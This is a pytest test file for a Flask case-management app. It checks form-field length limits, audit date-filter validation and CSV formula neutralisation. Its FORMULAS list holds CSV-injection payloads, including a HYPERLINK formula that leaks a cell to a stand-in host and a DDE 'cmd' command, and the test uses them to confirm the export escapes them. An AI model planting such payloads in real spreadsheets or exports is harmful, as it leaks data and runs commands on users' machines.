"""Hardened input through the UI: every text field of every form takes its limit and
refuses one character more on the field (never a 500), on PostgreSQL and SQLite; the
audit filters refuse an instant or a day out of range by name; the CSV export cannot
carry a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import COORDINATOR, Clock
from tests.web.conftest import make_app
from workflow import advance, enrolment, evidence, limits, registry, views
from workflow.accounts import add_user
from workflow.rules import Rules
from workflow.runtime import Runtime
from workflow.schemas import CycleIn, FundingSourceIn, OrganisationIn, SelectionIn, UserIn

PASSWORD = "hardened-input-password"
Client = Callable[[str | None], FlaskClient]


@pytest.fixture
def ui(db_url: str, rules: Rules, clock: Clock, tmp_path: Path) -> Iterator[Flask]:
    """The app on a fresh database (SQLite, then PostgreSQL), an admin and a mentor with
    passwords, a cycle, a case and a funding source selected for it."""
    app = make_app(db_url, rules, clock, tmp_path)
    rt: Runtime = app.extensions["inkubators"]
    add_user(rt, UserIn(name="admins", role="admin"), PASSWORD)
    add_user(rt, UserIn(name="janis", role="mentor"), PASSWORD)
    cycle = registry.create_cycle(
        rt, COORDINATOR, CycleIn(name="C", starts_on=date(2023, 3, 1), ends_on=date(2023, 12, 31))
    )
    org = registry.create_organisation(
        rt, COORDINATOR, OrganisationIn(name="O", reg_no="40008000000", legal_form="association")
    )
    case = enrolment.enrol(rt, COORDINATOR, org.id, cycle.id)
    source = registry.create_funding_source(
        rt,
        COORDINATOR,
        FundingSourceIn(
            funder="F",
            programme="P",
            call_opens=date(2023, 3, 1),
            call_closes=date(2023, 12, 31),
            max_grant_eur=Decimal(40000),
        ),
    )
    evidence.select_source(rt, COORDINATOR, case, SelectionIn(funding_source_id=source.id))
    app.config["ids"] = {"cycle": cycle.id, "case": case, "source": source.id}
    yield app
    rt.engine.dispose()


def _codes(length: int) -> str:
    """Comma-separated distinct codes, ``length`` characters long: at the limit, as many
    codes as a list takes, each as long as a code may be, ", " between them."""
    n, size = limits.CODES_PER_LIST, limits.CODE_MAX
    codes = [f"c{i:02d}" + "x" * (size - 3) for i in range(n)]
    text = ", ".join(codes)
    extra = " " * (length - len(text))  # one more: a space inside, which is not stripped
    return text.replace(", ", "," + extra + " ", 1)


def _version(rt: Runtime, case: int) -> int:
    return views.case_detail(rt, None, case).version


def test_every_form_field_takes_its_limit_and_refuses_one_more(ui: Flask) -> None:
    rt: Runtime = ui.extensions["inkubators"]
    ids: dict[str, int] = ui.config["ids"]
    case = ids["case"]
    client = ui.test_client()
    assert client.post("/login", data={"name": "admins", "password": PASSWORD}).status_code == 302
    numbers = iter(range(40008000001, 40008099999))
    serial = iter(range(10**6))

    def org() -> int:
        return registry.create_organisation(
            rt,
            COORDINATOR,
            OrganisationIn(name="E", reg_no=str(next(numbers)), legal_form="association"),
        ).id

    def user_name(n: int) -> str:
        return f"{next(serial):03d}" + "u" * (n - 3)

    application = {
        "funding_source_id": ids["source"],
        "total_budget_eur": "100,00",
        "requested_eur": "90",
    }

    evidence_version: Callable[[], dict[str, Any]] = lambda: {  # noqa: E731
        "expected_version": _version(rt, case)
    }
    # (path, data builder, field, limit, value of a length)
    forms: list[tuple[str, Callable[[], dict[str, Any]], str, int, Callable[[int], str]]] = [
        (
            "/organisations/new",
            lambda: {"reg_no": str(next(numbers)), "legal_form": "association"},
            "name",
            limits.NAME_MAX,
            "N".__mul__,
        ),
        (
            "/organisations/new",
            lambda: {"name": "O", "legal_form": "association"},
            "reg_no",
            limits.REG_NO_DIGITS,
            lambda n: str(next(numbers))[:n].ljust(n, "1"),
        ),
        (
            "/organisations/new",
            lambda: {"name": "O", "reg_no": str(next(numbers)), "legal_form": "association"},
            "fields_other",
            limits.CODES_TEXT_MAX,
            _codes,
        ),
        (
            "/cycles/new",
            lambda: {"starts_on": "2024-01-01", "ends_on": "2024-06-30"},
            "name",
            limits.NAME_MAX,
            lambda n: f"{next(serial):0{n}d}",
        ),
        ("/funding-sources/new", _source_form, "funder", limits.NAME_MAX, "F".__mul__),
        ("/funding-sources/new", _source_form, "programme", limits.NAME_MAX, "P".__mul__),
        (
            "/funding-sources/new",
            _source_form,
            "domains_other",
            limits.CODES_TEXT_MAX,
            _codes,
        ),
        (
            f"/cases/{case}/analysis",
            lambda: {**evidence_version(), "need_areas": ["x"]},
            "findings",
            limits.LONG_TEXT_MAX,
            "F".__mul__,
        ),
        (
            f"/cases/{case}/analysis",
            lambda: {**evidence_version(), "findings": "F"},
            "need_areas_other",
            limits.CODES_TEXT_MAX,
            _codes,
        ),
        (
            f"/cases/{case}/consultation",
            lambda: {**evidence_version(), "held_on": "2023-03-01", "hours": "2", "topic": "T"},
            "mentor_other",
            limits.PERSON_NAME_MAX,
            "M".__mul__,
        ),
        (
            f"/cases/{case}/consultation",
            lambda: {
                **evidence_version(),
                "mentor": "janis",
                "held_on": "2023-03-01",
                "hours": "2",
            },
            "topic",
            limits.TITLE_MAX,
            "T".__mul__,
        ),
        (
            f"/cases/{case}/application",
            lambda: {**evidence_version(), **application, "domain": "social"},
            "title",
            limits.TITLE_MAX,
            "T".__mul__,
        ),
        (
            f"/cases/{case}/application",
            lambda: {**evidence_version(), **application, "title": "T"},
            "domain_other",
            limits.CODE_MAX,
            "d".__mul__,
        ),
        (
            "/enrol",
            lambda: {"organisation_id": str(org()), "cycle_id": str(ids["cycle"])},
            "comment",
            limits.COMMENT_MAX,
            "C".__mul__,
        ),
        (
            f"/cases/{case}/advance",
            lambda: {"trigger": "analyse", **evidence_version()},
            "comment",
            limits.COMMENT_MAX,
            "C".__mul__,
        ),
        (
            "/admin/users",
            lambda: {"role": "mentor", "locale": "lv", "password": PASSWORD},
            "name",
            limits.USER_NAME_MAX,
            user_name,
        ),
        ("/admin/users/janis/password", dict, "password", limits.PASSWORD_MAX, "p".__mul__),
    ]
    checked = []
    for path, data, field, limit, make in forms:
        for length in (limit + 1, limit):  # refused first: a fired trigger leaves the page
            value = make(length)
            assert len(value) == length
            resp = client.post(path, data={**data(), field: value})
            page = resp.get_data(as_text=True)
            assert resp.status_code < 500, (path, field, length, page)
            if length == limit:
                assert resp.status_code == 302, (path, field, page)
            else:
                assert resp.status_code in (400, 422), (path, field, page)
                assert re.search(rf'id="[^"]*{field}[^"]*-errors"', page), (path, field, page)
            checked.append((path, field, length))
    assert len(checked) == 2 * len(forms)
    assert views.case_detail(rt, None, case).state == "analysed"


def _source_form() -> dict[str, Any]:
    return {
        "funder": "F",
        "programme": "P",
        "call_opens": "2023-03-01",
        "call_closes": "2023-12-31",
        "max_grant_eur": "40000",
    }


def test_the_login_form_refuses_a_name_longer_than_any_account(ui: Flask) -> None:
    client = ui.test_client()
    at_limit = client.post("/login", data={"name": "n" * 80, "password": PASSWORD})
    assert at_limit.status_code < 500
    assert not re.search(r'id="name-errors"', at_limit.get_data(as_text=True))
    too_long = client.post("/login", data={"name": "n" * 81, "password": PASSWORD})
    assert too_long.status_code == 400
    assert 'id="name-errors"' in too_long.get_data(as_text=True)


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("since=0001-01-01T00:00:00%2B14:00", "since"),
        ("since=0001-01-01", "since"),
        ("until=9999-12-31", "until"),
    ],
)
def test_the_audit_filters_refuse_out_of_range_days_naming_them(
    client_as: Client, query: str, parameter: str
) -> None:
    page = client_as("auditor").get(f"/audit/?{query}")
    assert page.status_code == 422
    html = page.get_data(as_text=True)
    assert re.search(rf'name="{parameter}"[^>]*>\s*<ul class="errors"><li>', html), html
    export = client_as("auditor").get(f"/audit/export.csv?{query}")
    assert export.status_code == 422
    assert f"{parameter}: " in export.get_data(as_text=True)


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_the_ui_csv_export_neutralises_formulas(client_as: Client, app_rt: Runtime) -> None:
    cases, _ = views.list_cases(app_rt, COORDINATOR)
    open_cases = [c for c in cases if c.state not in ("outcome", "withdrawn")]
    for case, formula in zip(open_cases, FORMULAS, strict=False):
        advance.fire(app_rt, COORDINATOR, case.id, "withdraw", comment=formula)
    export = client_as("auditor").get("/audit/export.csv?trigger=withdraw")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert sorted(
        r["comment"] for r in rows if r["comment"] in {"'" + f for f in FORMULAS}
    ) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
